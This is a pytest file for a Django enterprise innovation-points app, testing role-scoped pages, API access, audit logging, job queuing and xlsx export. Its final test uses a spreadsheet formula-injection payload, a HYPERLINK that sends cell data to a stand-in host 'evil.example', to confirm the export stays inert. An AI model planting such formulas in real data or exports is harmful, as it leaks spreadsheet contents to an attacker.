"""Pages, API and export of the points app, each role seeing only what it may."""

from __future__ import annotations

import io
import json
import tomllib
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone

from kechuang.accounts.choices import OrganizationKind, Role
from kechuang.core.models import AuditEntry
from kechuang.engine.points.model import DATA_DIR
from kechuang.enterprises.models import Consent, Enterprise
from kechuang.enterprises.tests.factories import bank, organization, regulator, user
from kechuang.points.models import PointsModel, PointsResult, PointsRun
from kechuang.core.services import job_run_pending
from kechuang.points import services as points_services
from kechuang.points.services import points_run_execute

from .factories import AS_OF, models, synthetic_region

pytestmark = pytest.mark.django_db


@pytest.fixture
def scored():
    ents = synthetic_region(120)
    admin = regulator("city-admin")
    ms = models()
    first = points_run_execute(region_code="370102", as_of=AS_OF, actor=admin, model=ms["national"])
    run = points_run_execute(region_code="370100", as_of=AS_OF, actor=admin, model=ms["national"])
    return ents, admin, first, run


def _consent(enterprise, org):
    now = timezone.now()
    return Consent.objects.create(enterprise=enterprise, organization=org, purpose="credit_assessment",
                                  valid_from=now - timedelta(days=1), valid_until=now + timedelta(days=30))


def test_an_enterprise_sees_its_points_rank_reasons_and_next_band(client, scored):
    ents, _admin, _first, run = scored
    own = ents[0]
    result = PointsResult.objects.get(run=run, enterprise=own)
    client.force_login(user("ent", organization(OrganizationKind.ENTERPRISE, "企业A", enterprise=own), Role.ADMIN))
    page = client.get(f"/points/enterprises/{own.pk}/")
    html = page.content.decode()
    assert page.status_code == 200
    assert f'<div class="display-5" id="points">{result.points:.2f}</div>' in html
    assert f"共 {result.peers} 家" in html and f"排第 {result.rank} 名" in html
    assert "暂定" in html and "None" not in html
    body = client.get("/api/points-results/").json()
    assert sorted({r["uscc"] for r in body["results"]}) == [own.uscc]
    assert client.get(f"/points/enterprises/{ents[1].pk}/").status_code == 404
    assert client.get("/points/").status_code == 403


def test_an_institution_sees_points_only_under_consent(client, scored):
    ents, _admin, _first, run = scored
    lender = bank("lender")
    client.force_login(lender)
    assert client.get(f"/points/enterprises/{ents[2].pk}/").status_code == 404
    consent = _consent(ents[2], lender.organization)
    assert client.get(f"/points/enterprises/{ents[2].pk}/").status_code == 200
    body = client.get(f"/api/points-results/?run={run.pk}").json()
    assert [r["uscc"] for r in body["results"]] == [ents[2].uscc]
    reads = AuditEntry.objects.filter(action="read", object_id=str(ents[2].pk), actor=lender)
    assert reads.get(context__what="innovation points").context["consent_id"] == consent.pk
    assert reads.count() == 2  # the card and the API list, each with the consent it relied on


def test_a_district_regulator_sees_its_district_in_the_city_run(client, scored):
    ents, _admin, _first, run = scored
    client.force_login(regulator("lixia", region="370102"))
    body = client.get(f"/api/points-results/?run={run.pk}&page_size=500").json()
    expected = sorted(e.uscc for e in ents if e.region_code == "370102")
    assert sorted(r["uscc"] for r in body["results"]) == expected
    page = client.get(f"/points/runs/{run.pk}/")
    assert page.status_code == 404  # the city's run is not the district's (runs are scoped by their region)


def test_the_regulator_pages_show_distribution_movements_and_export(client, scored):
    _ents, admin, first, run = scored
    client.force_login(admin)
    html = client.get(f"/points/runs/{run.pk}/").content.decode()
    assert 'id="stage-table"' in html and "历下区" in html and f'href="/points/runs/{first.pk}/"' in html
    moved = PointsResult.objects.filter(run=run, movement__gt=0).count()
    assert ('id="moves-up"' in html) == (moved > 0)
    resp = client.get(f"/points/runs/{run.pk}/export.xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
    rows = list(wb.worksheets[0].iter_rows(values_only=True))
    assert len(rows) - 1 == PointsResult.objects.filter(run=run).count()
    assert AuditEntry.objects.filter(action="export", object_id=str(run.pk)).count() == 1
    for url in ("/points/", "/points/models/", f"/points/models/{run.model_id}/", "/points/results/"):
        assert client.get(url).status_code == 200, url


def test_api_refuses_a_bad_model_with_its_code_and_a_viewer_with_403(client, scored):
    _ents, admin, _first, _run = scored
    client.force_login(admin)
    bad = 'schema = 1\ncode = "x"\nversion = "x-1"\nname = "x"\n[[stages]]\nid = "a"\nwhen = [{ unicorn = { min = 0 } }]\n'
    resp = client.post("/api/points-models/", {"text": bad, "fmt": "toml"}, content_type="application/json")
    assert resp.status_code == 400
    errors = resp.json()["errors"]
    assert {e["code"] for e in errors} == {"bad_model"}
    assert "模型不能载入：stages[0] a when[0]: unknown fact 'unicorn'" in [e["message"] for e in errors]
    runs_before = PointsRun.objects.count()
    client.force_login(regulator("viewer", role=Role.VIEWER))
    resp = client.post("/api/points-runs/", {"region_code": "370100", "as_of": AS_OF.isoformat()},
                       content_type="application/json")
    assert resp.status_code == 403
    assert (PointsRun.objects.count(), PointsModel.objects.count()) == (runs_before, 2)


def test_api_queues_a_run_answering_202_and_the_job_scores_the_region(client, scored):
    _ents, admin, _first, _run = scored
    client.force_login(admin)
    resp = client.post("/api/points-runs/", {"region_code": "370102", "as_of": AS_OF.isoformat()},
                       content_type="application/json")
    assert resp.status_code == 202 and resp.json()["status"] == "queued" and resp.json()["job"]
    run = PointsRun.objects.get(pk=resp.json()["id"])
    assert not PointsResult.objects.filter(run=run).exists()
    assert job_run_pending() == 1
    run.refresh_from_db()
    assert (run.region_code, run.status, run.enterprises_total) == (
        "370102", "succeeded", PointsResult.objects.filter(run=run).count())
    assert run.enterprises_total == Enterprise.objects.filter(region_code__startswith="370102").count()
    assert run.job.status == "succeeded" and run.job.progress_done == run.job.progress_total


def test_the_run_page_queues_shows_progress_and_reloads_when_done(client, scored):
    _ents, admin, _first, _run = scored
    client.force_login(admin)
    resp = client.post("/points/", {"region_code": "370102", "as_of": AS_OF.isoformat()})
    run = PointsRun.objects.order_by("-pk").first()
    assert resp.status_code == 302 and resp["Location"] == f"/points/runs/{run.pk}/" and run.status == "queued"
    page = client.get(f"/points/runs/{run.pk}/").content.decode()
    assert f'id="run-progress-{run.pk}"' in page and 'hx-trigger="every 1s"' in page and 'id="result-list"' not in page
    poll = client.get(f"/points/runs/{run.pk}/progress/", HTTP_HX_REQUEST="true")
    assert poll.status_code == 200 and "HX-Refresh" not in poll
    assert job_run_pending() == 1
    poll = client.get(f"/points/runs/{run.pk}/progress/", HTTP_HX_REQUEST="true")
    assert poll["HX-Refresh"] == "true"
    page = client.get(f"/points/runs/{run.pk}/").content.decode()
    assert 'id="result-list"' in page and f'id="run-progress-{run.pk}"' not in page


def test_a_failed_job_keeps_no_result_and_the_page_says_why(client, scored, monkeypatch):
    _ents, admin, _first, _run = scored
    client.force_login(admin)
    resp = client.post("/api/points-runs/", {"region_code": "370102", "as_of": AS_OF.isoformat()},
                       content_type="application/json")
    real = points_services.audit_record

    def fail_after_the_rows(**kw):  # the results are inserted, then the run's audit entry fails
        if kw.get("action") == "update":
            assert PointsResult.objects.filter(run_id=resp.json()["id"]).exists()
            raise RuntimeError("audit store down")
        return real(**kw)

    monkeypatch.setattr(points_services, "audit_record", fail_after_the_rows)
    assert job_run_pending() == 1
    run = PointsRun.objects.get(pk=resp.json()["id"])
    assert run.status == "failed" and "audit store down" in run.error and run.job.status == "failed"
    assert not PointsResult.objects.filter(run=run).exists() and run.enterprises_total == 0
    page = client.get(f"/points/runs/{run.pk}/").content.decode()
    assert 'id="run-failed"' in page and "audit store down" in page


def test_api_registers_a_json_model_version(client, scored):
    _ents, admin, _first, _run = scored
    doc = tomllib.loads((DATA_DIR / "national-2024.toml").read_text(encoding="utf-8"))
    doc["version"] = "national-2024.2"
    client.force_login(admin)
    resp = client.post("/api/points-models/", {"text": json.dumps(doc, ensure_ascii=False), "fmt": "json"},
                       content_type="application/json")
    assert resp.status_code == 201
    assert (resp.json()["version"], resp.json()["provisional_weights"]) == ("national-2024.2", 18)
    assert list(PointsModel.objects.filter(code="national").values_list("version", flat=True).order_by("version")) == [
        "national-2024.1", "national-2024.2"]


def test_the_run_export_is_inert_in_a_spreadsheet(client, scored):
    _ents, admin, _first, run = scored
    # given three scored enterprises whose names would run as formulas
    top = list(PointsResult.objects.filter(run=run).order_by("-points", "enterprise_id")[:3])
    names = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "@SUM(1)", "-2+3"]
    for result, name in zip(top, names, strict=True):
        Enterprise.objects.filter(pk=result.enterprise_id).update(name=name)
    client.force_login(admin)
    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/points/runs/{run.pk}/export.xlsx").content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    first = next(wb.worksheets[0].iter_rows(min_row=2, max_row=2))
    # then the names are quoted strings and the points stay numbers
    assert (first[1].value, first[1].data_type, first[1].quotePrefix, first[4].value, first[4].data_type) == (
        names[0], "s", True, float(top[0].points), "n")
